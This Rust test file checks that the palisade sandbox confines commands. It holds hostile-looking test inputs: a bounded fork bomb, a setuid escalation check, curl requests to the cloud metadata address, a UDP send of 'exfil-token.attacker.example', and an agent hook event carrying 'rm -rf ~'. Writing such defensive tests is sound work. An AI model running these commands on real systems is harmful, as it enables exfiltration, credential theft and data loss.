        let o = sh(&d.proj, "grep NoNewPrivs /proc/self/status", sandboxed, &[]);
        String::from_utf8_lossy(&o.stdout)
            .split_whitespace()
            .last()
            .map(str::to_string)
    };
    assert_eq!(nnp(false).as_deref(), Some("0"));
    assert_eq!(nnp(true).as_deref(), Some("1"));
    if !nix_is_root() || !has("setpriv") {
        eprintln!("skipped the setuid half: needs root and setpriv");
        return;
    }
    use std::os::unix::fs::PermissionsExt as _;
    let id = d.proj.join("suid-id");
    std::fs::copy("/usr/bin/id", &id).unwrap();
    std::fs::set_permissions(&id, std::fs::Permissions::from_mode(0o4755)).unwrap();
    // `nobody` must reach the program and the project.
    let mut p = d.proj.clone();
    while p.parent().is_some() {
        let mode = std::fs::metadata(&p).unwrap().permissions().mode();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode | 0o755)).unwrap();
        if p == std::env::temp_dir() || !p.pop() {
            break;
        }
    }
    let as_nobody = |sandboxed: bool| {
        let mut c = Command::new("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .env("PALISADE_AUDIT", "off");
        if sandboxed {
            c.arg(env!("CARGO_BIN_EXE_palisade")).args(["run", "--"]);
        }
        let o = c.arg(&id).current_dir(&d.proj).output().unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr)
    };
    let free = as_nobody(false);
    if !free.contains("euid=0") {
        eprintln!("skipped the setuid half: the temp dir is mounted nosuid ({free})");
        return;
    }
    let boxed = as_nobody(true);
    assert!(boxed.contains("uid=65534"), "{boxed}");
    assert!(!boxed.contains("euid=0"), "{boxed}");
}

/// A Python probe that starts up to `n` sleeping children, prints how many
/// started (and on stderr why it stopped), then kills them all.
fn fork_bomb(n: u32) -> String {
    format!(
        r#"import subprocess, sys
procs = []
try:
    for _ in range({n}):
        procs.append(subprocess.Popen(["sleep", "30"]))
except OSError as e:
    print("stopped:", e.strerror, file=sys.stderr)
for p in procs:
    p.kill()
    p.wait()
print(len(procs))
"#
    )
}

/// A bounded fork bomb (300 sleeping children) runs to the end unconfined,
/// harmless at that size; with `--limit-procs 50` it is stopped before 50,
/// by RLIMIT_NPROC or, as root (whom RLIMIT_NPROC does not count), by the
/// sandbox's cgroup (#6).
#[test]
fn a_fork_bomb_is_stopped_by_the_process_limit() {
    if !has("python3") {
        return;
    }
    let d = dirs();
    let probe = &fork_bomb(300);
    assert_eq!(python(&d, probe, false, &[]), "300");
    std::fs::write(d.proj.join("probe.py"), probe).unwrap();
    let o = sh(&d.proj, "python3 probe.py", true, &["--limit-procs", "50"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!err.contains("not enforced"), "{err}");
    let n: u32 = String::from_utf8_lossy(&o.stdout).trim().parse().unwrap();
    assert!((1..50).contains(&n), "{n} children: {err}");
    assert!(err.contains("stopped:"), "{err}");
}

/// From 300 up, the cap is the sandbox's own `kernel.pid_max` where the
/// kernel keeps it per pid namespace (Linux ≥ 6.14): 600 children are
/// stopped before 320, for root too, and the host's pid_max is untouched.
#[test]
fn a_larger_fork_bomb_is_stopped_by_the_namespace_pid_max() {
    if !has("python3") {
        return;
    }
    let host_pid_max = std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap();
    let d = dirs();
    let probe = &fork_bomb(600);
    assert_eq!(python(&d, probe, false, &[]), "600");
    std::fs::write(d.proj.join("probe.py"), probe).unwrap();
    let o = sh(&d.proj, "python3 probe.py", true, &["--limit-procs", "320"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!err.contains("not enforced"), "{err}");
    let n: u32 = String::from_utf8_lossy(&o.stdout).trim().parse().unwrap();
    assert!((1..320).contains(&n), "{n} children: {err}");
    assert!(err.contains("stopped:"), "{err}");
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap(),
        host_pid_max
    );
}

/// A 2 MiB file is written unconfined; with `--limit-file-size 1M` the
/// writer is stopped (SIGXFSZ or EFBIG) and the file stays at 1 MiB. The
/// limit is per file: many files can still fill a disk (#6).
#[test]
fn a_file_over_the_size_limit_cannot_be_written() {
    let d = dirs();
    let script = "head -c 2097152 /dev/zero > big";
    assert!(sh(&d.proj, script, false, &[]).status.success());
    assert_eq!(
        std::fs::metadata(d.proj.join("big")).unwrap().len(),
        2 << 20
    );
    std::fs::remove_file(d.proj.join("big")).unwrap();
    let o = sh(&d.proj, script, true, &["--limit-file-size", "1M"]);
    assert!(!o.status.success());
    assert!(std::fs::metadata(d.proj.join("big")).unwrap().len() <= 1 << 20);
    // Under the limit is fine.
    let o = sh(
        &d.proj,
        "head -c 1000 /dev/zero > small",
        true,
        &["--limit-file-size", "1M"],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

/// With `--limit-memory 64M` a process cannot take 256 MiB of heap;
/// unconfined it can (#6).
#[test]
fn the_memory_limit_stops_a_large_allocation() {
    if !has("python3") {
        return;
    }
    let d = dirs();
    let probe = r#"try:
    b = bytearray(256 << 20); print("allocated")
except MemoryError:
    print("refused")
"#;
    assert_eq!(python(&d, probe, false, &[]), "allocated");
    assert_eq!(
        python(&d, probe, true, &["--limit-memory", "64M"]),
        "refused"
    );
}

#[test]
fn profiles_change_what_is_writable_and_readable() {
    // read-only: not even the project is writable; the private tmp is.
    let d = dirs();
    let out = sh(
        &d.proj,
        "echo x > mine.txt",
        true,
        &["--profile", "read-only"],
    );
    assert!(!out.status.success(), "{out:?}");
    assert!(!d.proj.join("mine.txt").exists());
    let out = sh(
        &d.proj,
        "echo x > \"$TMPDIR/t\" && cat \"$TMPDIR/t\"",
        true,
        &["--profile", "read-only"],
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "x\n", "{out:?}");
    // untrusted: all of $HOME is hidden except the project inside it.
    let home = d.outside.join("home");
    let proj = home.join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    std::fs::write(home.join("notes.txt"), "private").unwrap();
    let run = |profile: &str| {
        palisade()
            .args(["run", "--profile", profile, "--", "sh", "-c"])
            .arg("cat ../notes.txt; echo ok > here.txt && cat here.txt")
            .current_dir(&proj)
            .env("HOME", &home)
            .output()
            .expect("run")
    };
    let out = run("workspace");
    assert!(
        String::from_utf8_lossy(&out.stdout).starts_with("private"),
        "{out:?}"
    );
    let out = run("untrusted");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("private"), "{out:?}");
    assert!(stdout.contains("ok"), "the project stays usable: {out:?}");
    // An unknown profile is a set-up error (exit 2) that lists the built-ins.
    let out = sh(&d.proj, "true", true, &["--profile", "nope"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("built-in: workspace"),
        "{out:?}"
    );
}

/// With `--explain`, each refusal the command reports is traced to the
/// rule that caused it, with the way to grant more; the command's own
/// stderr still comes through.
#[test]
fn refusals_are_explained_with_the_rule_and_the_way_to_grant_more() {
    let d = dirs();
    git(&d.proj, &["init", "-q"]);
    let script = format!(
        "echo x > {}/f; echo y >> .git/config; unshare -r true; echo done",
        d.outside.display()
    );
    let o = sh(&d.proj, &script, true, &["--explain"]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), "done\n");
    assert!(err.contains("Permission denied"), "passed through: {err}");
    assert!(
        err.contains(&format!(
            "{}/f: outside the writable roots",
            d.outside.display()
        )) && err.contains(&format!("--allow-write {}", d.outside.display())),
        "{err}"
    );
    assert!(err.contains(".git/config: a protected name"), "{err}");
    assert!(
        err.contains("Operation not permitted`: the sandbox refuses"),
        "{err}"
    );
    let plain = sh(&d.proj, &script, true, &[]);
    assert!(!String::from_utf8_lossy(&plain.stderr).contains("palisade run: the sandbox"));
}

/// `--project` keeps the project root writable when the command starts in
/// a subdirectory (as the hook's rewrite does after the agent's `cd`).
#[test]
fn the_project_root_is_writable_from_a_subdirectory_with_project() {
    let d = dirs();
    let sub = d.proj.join("src");
    std::fs::create_dir(&sub).unwrap();
    let o = sh(&sub, "echo x > ../top.txt", true, &[]);
    assert!(!o.status.success(), "only the current directory by default");
    let o = sh(
        &sub,
        "echo x > ../top.txt",
        true,
        &["--project", d.proj.to_str().unwrap()],
    );
    assert!(o.status.success(), "{o:?}");
    assert_eq!(
        std::fs::read_to_string(d.proj.join("top.txt")).unwrap(),
        "x\n"
    );
}

/// An HTTP origin on the host's 127.0.0.1 that answers `hello` and counts
/// the connections it gets.
fn origin() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h = std::sync::Arc::clone(&hits);
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 4096];
            let _ = s.read(&mut buf);
            let _ = s.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n",
            );
        }
    });
    (port, hits)
}

/// The domain proxy: an allowed name is reached over plain HTTP, CONNECT
/// and SOCKS5; everything else is refused at the proxy and never reaches
/// the origin — a name not allowed, an allowed name that resolves to
/// loopback (DNS rebinding), an address literal, the cloud metadata
/// address, a port not allowed — and going around the proxy finds no
/// route. `--explain` names the rule.
#[test]
fn the_proxy_lets_allowed_domains_through_and_nothing_else() {
    if !has("curl") {
        return;
    }
    let d = dirs();
    let (port, hits) = origin();
    let hits_now = || hits.load(std::sync::atomic::Ordering::SeqCst);
    let p = port.to_string();
    let url = format!("http://localhost:{port}/");
    // Unconfined, the origin is reached directly.
    let free = sh(&d.proj, &format!("curl -s {url}"), false, &[]);
    assert_eq!(String::from_utf8_lossy(&free.stdout), "hello\n");
    let base = hits_now();
    // Allowed (with the loopback address granted, as the origin is local).
    let allowed = [
        "--allow-domain",
        "localhost",
        "--allow-ip",
        "127.0.0.1",
        "--allow-port",
        &p,
    ];
    for how in ["", "-p", "--socks5-hostname 127.0.0.1:3128"] {
        let o = sh(
            &d.proj,
            &format!("curl -s --noproxy '' {how} {url}"),
            true,
            &allowed,
        );
        assert_eq!(
            String::from_utf8_lossy(&o.stdout),
            "hello\n",
            "{how}: {o:?}"
        );
    }
    assert_eq!(hits_now(), base + 3);
    // Refused: each attack, with the rule named by --explain.
    let no_ip = [
        "--allow-domain",
        "localhost",
        "--allow-port",
        &p,
        "--explain",
    ];
    for (script, rule, extra) in [
        (
            format!("curl -s --noproxy '' {url}"),
            "loopback address 127.0.0.1 for allowed name",
            &no_ip[..],
        ),
        (
            format!("curl -s --noproxy '' -p {url}"),
            "loopback address 127.0.0.1 for allowed name",
            &no_ip[..],
        ),
        (
            format!("curl -s --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:{port}/"),
            "ip literal",
            &no_ip[..],
        ),
        (
            "curl -s --noproxy '' http://169.254.169.254/latest/meta-data/".to_string(),
            "ip literal",
            &no_ip[..],
        ),
        (
            format!("curl -s --noproxy '' http://example.com:{port}/"),
            "not in allow_domains",
            &no_ip[..],
        ),
        (
            format!("curl -s --noproxy '' {url}"),
            &format!("port {port} not in allow_ports"),
            &[
                "--allow-domain",
                "localhost",
                "--allow-ip",
                "127.0.0.1",
                "--explain",
            ][..],
        ),
    ] {
        let o = sh(&d.proj, &script, true, extra);
        let err = String::from_utf8_lossy(&o.stderr);
        assert_ne!(String::from_utf8_lossy(&o.stdout), "hello\n", "{script}");
        assert!(err.contains(rule), "{script}: {err}");
        assert!(err.contains("refused by the proxy"), "{script}: {err}");
    }
    // Around the proxy: no route to the host's loopback or anywhere.
    let o = sh(
        &d.proj,
        &format!("curl -s --noproxy '*' -m 3 {url} || echo no-route"),
        true,
        &allowed,
    );
    assert_eq!(String::from_utf8_lossy(&o.stdout), "no-route\n");
    assert_eq!(
        hits_now(),
        base + 3,
        "no refused request reached the origin"
    );
}

/// A run is recorded in the audit log: one `allow` record for the run
/// (profile, exit code), one `deny` record per distinct proxy refusal
/// naming the rule and how to grant it, secrets in the command redacted;
/// and the log still verifies.
#[test]
fn runs_and_proxy_refusals_are_recorded_in_the_audit_log() {
    if !has("curl") {
        return;
    }
    let d = dirs();
    let (port, _hits) = origin();
    let audit = d.outside.join("audit");
    let key = d.outside.join("audit.key");
    let token = common::github_token("R8vJq2LmN4pXs7TzW1yKc9HbD3fGa6");
    let script = format!(
        "curl -s --noproxy '' -H 'Authorization: token {token}' http://example.com:{port}/; \
         curl -s --noproxy '' http://example.com:{port}/again"
    );
    let o = palisade()
        .args(["run", "--allow-domain", "localhost", "--allow-port"])
        .arg(port.to_string())
        .args(["--", "sh", "-c", &script])
        .current_dir(&d.proj)
        .env("PALISADE_AUDIT", "on")
        .env("PALISADE_AUDIT_DIR", &audit)
        .env("PALISADE_AUDIT_KEY_FILE", &key)
        .output()
        .unwrap();
    assert!(o.status.success(), "{o:?}");
    let log = |args: &[&str]| {
        let o = palisade()
            .arg("log")
            .args(args)
            .arg("--dir")
            .arg(&audit)
            .arg("--key")
            .arg(&key)
            .output()
            .unwrap();
        (
            o.status.code(),
            String::from_utf8_lossy(&o.stdout).into_owned(),
        )
    };
    let (code, out) = log(&["export"]);
    assert_eq!(code, Some(0), "{out}");
    let recs: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        recs.len(),
        2,
        "the run and one refusal (the same twice): {out}"
    );
    assert_eq!(recs[0]["agent"], "palisade-run");
    assert_eq!(recs[0]["verdict"], "allow");
    assert_eq!(recs[0]["rule"], "sandbox.profile.workspace");
    assert!(
        recs[0]["reason"].as_str().unwrap().contains("1 refused")
            || recs[0]["reason"].as_str().unwrap().contains("2 refused"),
        "{}",
        recs[0]
    );
    assert_eq!(recs[1]["verdict"], "deny");
    assert_eq!(recs[1]["rule"], "sandbox.network");
    let action = recs[1]["action"].as_str().unwrap();
    assert!(action.contains(&format!("example.com:{port}")), "{action}");
    assert!(
        recs[1]["reason"]
            .as_str()
            .unwrap()
            .contains("not in allow_domains"),
        "{}",
        recs[1]
    );
    assert!(!out.contains(&token), "the token is redacted: {out}");
    assert!(out.contains("REDACTED"), "{out}");
    let (code, out) = log(&["verify"]);
    assert_eq!(code, Some(0), "{out}");
}

/// UDP to the host — here a DNS server stand-in on the host's loopback, the
/// way a command would exfiltrate data in lookups — sends nothing from the
/// sandbox, with or without the proxy.
#[test]
fn udp_and_dns_lookups_do_not_leave_the_sandbox() {
    let d = dirs();
    let server = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    server
        .set_read_timeout(Some(std::time::Duration::from_millis(500)))
        .unwrap();
    let port = server.local_addr().unwrap().port();
    let script = format!(
        "python3 -c \"import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n    s.sendto(b'exfil-token.attacker.example', ('127.0.0.1', {port}))\nexcept OSError: pass\""
    );
    let mut buf = [0u8; 64];
    sh(&d.proj, &script, false, &[]);
    assert!(server.recv(&mut buf).is_ok(), "received unconfined");
    for extra in [&[][..], &["--allow-domain", "example.com"][..]] {
        sh(&d.proj, &script, true, extra);
        assert!(
            server.recv(&mut buf).is_err(),
            "nothing from the sandbox: {extra:?}"
        );
    }
}

/// Where user namespaces cannot be created (here: a parent user namespace
/// whose `max_user_namespaces` is 0), palisade says so and still confines
/// writes with Landlock and system calls with seccomp: never unconfined
/// silently.
#[test]
fn without_user_namespaces_the_fallback_is_explicit_and_still_confines() {
    if !has("unshare") {
        return;
    }
    let d = dirs();
    let script = format!(
        "echo 0 > /proc/sys/user/max_user_namespaces || exit 99; \
         {} run -- sh -c 'echo x > {}/pwned; echo ok > in.txt; unshare -r true || echo unshare-refused'",
        env!("CARGO_BIN_EXE_palisade"),
        d.outside.display()
    );
    let o = Command::new("unshare")
        .args(["-Ur", "sh", "-c", &script])
        .env("PALISADE_AUDIT", "off")
        .current_dir(&d.proj)
        .output()
        .unwrap();
    if o.status.code() == Some(99) || o.status.code() == Some(1) && o.stdout.is_empty() {
        eprintln!("skipped: cannot make a user namespace without nested ones here: {o:?}");
        return;
    }
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("user namespaces are unavailable"), "{err}");
    assert!(err.contains("Landlock and seccomp still apply"), "{err}");
    assert!(!d.outside.join("pwned").exists());
    assert_eq!(
        std::fs::read_to_string(d.proj.join("in.txt")).unwrap(),
        "ok\n"
    );
    assert!(String::from_utf8_lossy(&o.stdout).contains("unshare-refused"));
}

/// `--list-profiles` names every built-in with its network; `--show-profile`
/// prints one resolved, and an unknown name is a clear error.
#[test]
fn profiles_can_be_listed_and_shown() {
    let run = |args: &[&str]| {
        palisade()
            .arg("run")
            .args(args)
            .env("HOME", "/nonexistent")
            .output()
            .unwrap()
    };
    let o = run(&["--list-profiles"]);
    assert!(o.status.success());
    let out = String::from_utf8_lossy(&o.stdout);
    for (name, net) in [
        ("workspace", "none"),
        ("workspace-net", "proxy"),
        ("read-only", "none"),
        ("untrusted", "none"),
        ("agent", "proxy"),
    ] {
        assert!(
            out.lines()
                .any(|l| l.split_whitespace().take(2).eq([name, net])),
            "{name}: {out}"
        );
    }
    let o = run(&["--show-profile", "untrusted"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("extends") || out.contains("built-in profile workspace"),
        "{out}"
    );
    assert!(out.contains("home = true"), "{out}");
    let o = run(&["--show-profile", "nope"]);
    assert!(!o.status.success());
    assert!(String::from_utf8_lossy(&o.stderr).contains("no profile named `nope`"));
}

/// A hook that runs inside the sandbox (an agent wrapped with `palisade
/// run`) cannot write the audit log, which is outside the writable roots;
/// its record reaches the log through `palisade run`'s relay, flagged as
/// relayed, and the sandbox still cannot edit the log itself.
#[test]
fn hooks_inside_the_sandbox_log_through_the_relay() {
    let d = dirs();
    let audit = d.outside.join("audit");
    let key = d.outside.join("audit.key");
    let exe = env!("CARGO_BIN_EXE_palisade");
    let event = serde_json::json!({"session_id": "s9", "cwd": d.proj,
        "permission_mode": "default", "hook_event_name": "PreToolUse",
        "tool_name": "Bash", "tool_input": {"command": "rm -rf ~"}});
    std::fs::write(d.proj.join("event.json"), event.to_string()).unwrap();
    // First a record from outside, so that the log exists; then, inside:
    // the hook, and an attempt to rewrite the log directly.
    let script = format!(
        "'{exe}' hook claude-code < event.json > /dev/null; \
         echo tampered >> '{seg}' 2>/dev/null && echo wrote-log || echo log-refused; \
         [ -s '{key}' ] && echo read-key || echo key-hidden",
        seg = audit.join("segment-000001.jsonl").display(),
        key = key.display()
    );
    let run = |args: &[&str]| {
        palisade()
            .args(args)
            .current_dir(&d.proj)
            .env("PALISADE_AUDIT", "on")
            .env("PALISADE_AUDIT_DIR", &audit)
            .env("PALISADE_AUDIT_KEY_FILE", &key)
            .output()
            .unwrap()
    };
    let o = run(&["run", "--", "true"]);
    assert!(o.status.success(), "{o:?}");
    let o = run(&["run", "--", "sh", "-c", &script]);
    assert!(o.status.success(), "{o:?}");
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "log-refused\nkey-hidden\n",
        "{o:?}"
    );
    let o = run(&[
        "log",
        "export",
        "--dir",
        audit.to_str().unwrap(),
        "--key",
        key.to_str().unwrap(),
    ]);
    let recs: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let hook: Vec<&serde_json::Value> = recs
        .iter()
        .filter(|r| r["agent"] == "claude-code")
        .collect();
    assert_eq!(hook.len(), 1, "{recs:#?}");
    assert_eq!(hook[0]["verdict"], "deny");
    // Decided by its rule, not failed closed: the hook read the policy
    // although `.claude/` is a placeholder file in the sandbox.
    assert_eq!(hook[0]["rule"], "destructive.rm-recursive", "{}", hook[0]);
    assert_eq!(hook[0]["session"], "s9");
    assert_eq!(hook[0]["flags"], serde_json::json!(["sandbox-relayed"]));
    let o = run(&[
        "log",
        "verify",
        "--dir",
        audit.to_str().unwrap(),
        "--key",
        key.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{o:?}");
}
